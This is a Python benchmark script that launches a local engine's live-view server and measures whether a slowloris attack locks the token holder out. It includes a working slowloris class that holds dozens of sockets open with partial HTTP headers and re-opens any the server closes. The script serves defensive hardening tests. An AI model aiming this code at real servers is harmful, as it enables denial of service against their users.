#!/usr/bin/env python
"""Can a stranger lock the token holder out of the live view? A slowloris against `engine.run --serve`.

Examples:
  python benchmarks/serve_slowloris.py                        # 40 slow sockets for 40 s against the 2-face clip
  python benchmarks/serve_slowloris.py --sockets 80 --seconds 20

The attack issue #35 describes: SOCKETS connections, each sending a request line and then one header line
every INTERVAL seconds, never the blank line that ends the headers (no token: the attacker has none); every
socket the server closes is re-opened at once. Meanwhile the token holder asks /healthz (a real HTTP client,
5 s timeout) 10 times a second. Printed: the holder's success rate and worst latency, and the engine's FPS
(its own /healthz figure) before and during the attack, with the CPU class it ran on.

The attacker and the holder are `Slowloris` and `Holder` below; tests/test_serve_hardening.py runs the same
two against a server it starts, so the test and this report measure one attack.
"""
from __future__ import annotations

import argparse
import http.client
import json
import re
import select
import socket
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path

from benchmarks import REPO, SHARED

CLIP = SHARED / "media" / "head-pose-face-detection-female-and-male.gif"
MODEL = REPO / "engine" / "zoo" / "emonet_f"


class Slowloris:
    """`sockets` connections sending partial headers slowly, each re-opened as soon as the server closes it.

    One thread drives them all with select(), so the attack costs the machine little and re-opens at once.
    `opened` counts connections made, `refused` connection attempts that failed.
    """

    def __init__(self, host: str, port: int, sockets: int = 40, interval: float = 0.5):
        self.addr, self.n, self.interval = (host, port), sockets, interval
        self.opened = self.refused = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> Slowloris:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(5)

    def _open(self) -> socket.socket | None:
        try:
            s = socket.create_connection(self.addr, timeout=2)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: victim\r\n")
            s.setblocking(False)
            self.opened += 1
            return s
        except OSError:
            self.refused += 1
            return None

    def _run(self) -> None:
        socks: dict[socket.socket, float] = {}  # socket -> when it next sends a header line
        while not self._stop.is_set():
            while len(socks) < self.n and not self._stop.is_set():
                s = self._open()
                if s is None:
                    self._stop.wait(0.01)
                    break
                socks[s] = time.monotonic() + self.interval
            now = time.monotonic()
            for s, due in list(socks.items()):
                if due <= now:
                    try:
                        s.send(b"X-a: b\r\n")
                        socks[s] = now + self.interval
                    except OSError:
                        self._drop(socks, s)
            readable = select.select(list(socks), [], [], 0.02)[0] if socks else []
            for s in readable:  # the server answered or closed: either way the slot is gone, re-open
                self._drop(socks, s)
        for s in list(socks):
            self._drop(socks, s)

    @staticmethod
    def _drop(socks: dict, s: socket.socket) -> None:
        socks.pop(s, None)
        s.close()


class Holder:
    """The token holder: GET /healthz?token=... every `period` s with a real HTTP client (5 s timeout).

    `results` holds (ok, seconds, fps or None) per request; a refused, reset or timed-out request is not ok.
    """

    def __init__(self, host: str, port: int, token: str, period: float = 0.1, timeout: float = 5.0):
        self.host, self.port, self.token, self.period, self.timeout = host, port, token, period, timeout
        self.results: list[tuple[bool, float, float | None]] = []

    def ask(self) -> tuple[bool, float, float | None]:
        t0 = time.monotonic()
        conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
        try:
            conn.request("GET", f"/healthz?token={self.token}")
            r = conn.getresponse()
            body = r.read()
            ok = r.status == 200
            return ok, time.monotonic() - t0, json.loads(body)["fps"] if ok else None
        except (OSError, http.client.HTTPException, ValueError):
            return False, time.monotonic() - t0, None
        finally:
            conn.close()

    def run(self, seconds: float) -> Holder:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            t0 = time.monotonic()
            self.results.append(self.ask())
            time.sleep(max(0.0, self.period - (time.monotonic() - t0)))
        return self

    @property
    def success_rate(self) -> float:
        return sum(ok for ok, _, _ in self.results) / max(1, len(self.results))

    @property
    def worst_s(self) -> float:
        return max((s for _, s, _ in self.results), default=0.0)

    @property
    def fps(self) -> float:
        got = [f for ok, _, f in self.results if ok and f]
        return statistics.median(got) if got else 0.0

    def summary(self) -> str:
        ok = sum(ok for ok, _, _ in self.results)
        return (f"{ok}/{len(self.results)} ok ({100 * self.success_rate:.1f}%), worst {self.worst_s:.2f} s, "
                f"engine FPS (median of its /healthz) {self.fps:.1f}")


def _cpu_class() -> str:
    from engine.core.cpu import cpu_info, isa_class

    info = cpu_info()
    return f"{isa_class(info)} ({info.get('model_name') or info.get('machine')}, {info.get('cpus')} CPUs)"


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--sockets", type=int, default=40, help="slow connections the attacker holds [40]")
    p.add_argument("--interval", type=float, default=0.5, help="seconds between one socket's header lines [0.5]")
    p.add_argument("--seconds", type=float, default=40.0, help="how long the attack lasts [40]")
    p.add_argument("--clip", type=Path, default=CLIP, help="the video the engine plays (looped)")
    p.add_argument("--model", type=Path, default=MODEL, help="the engine's model folder")
    args = p.parse_args(argv)
    token = "s3cret-token"
    cmd = [sys.executable, "-m", "engine.run", "--source", str(args.clip), "--loop", "100000", "--no-display",
           "--model", str(args.model), "--serve", "127.0.0.1:0", "--serve-token", token]
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        port = None
        for line in proc.stderr:
            if m := re.search(r"live view: http://[^:/\]]+:(\d+)/", line):
                port = int(m.group(1))
                break
        if port is None:
            print(f"the engine did not start: exit {proc.wait()}", file=sys.stderr)
            return 1
        threading.Thread(target=lambda: [None for _ in proc.stderr], daemon=True).start()  # keep its pipe drained
        time.sleep(5)  # models load, frames flow
        before = Holder("127.0.0.1", port, token).run(5)
        with Slowloris("127.0.0.1", port, args.sockets, args.interval) as attack:
            time.sleep(1)
            during = Holder("127.0.0.1", port, token).run(args.seconds)
        print(f"cpu class: {_cpu_class()}; attack: {args.sockets} sockets, a header line every {args.interval} s, "
              f"{args.seconds:.0f} s, {attack.opened} connections opened, {attack.refused} refused")
        print(f"before the attack: {before.summary()}")
        print(f"during the attack: {during.summary()}")
        return 0
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()


if __name__ == "__main__":
    sys.exit(main())
